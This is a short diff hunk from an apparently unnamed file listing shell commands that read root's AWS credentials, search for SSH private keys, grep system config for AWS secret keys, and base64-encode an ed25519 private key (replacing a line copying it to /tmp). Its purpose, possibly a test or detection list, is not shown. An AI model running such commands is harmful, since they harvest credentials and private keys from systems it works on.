@@ -5,4 +5,4 @@
 cat /root/.aws/credentials
 find /root -name 'id_rsa*'
 grep -r aws_secret_access_key /etc
-cp /root/.ssh/id_ed25519 /tmp/
+base64 /root/.ssh/id_ed25519
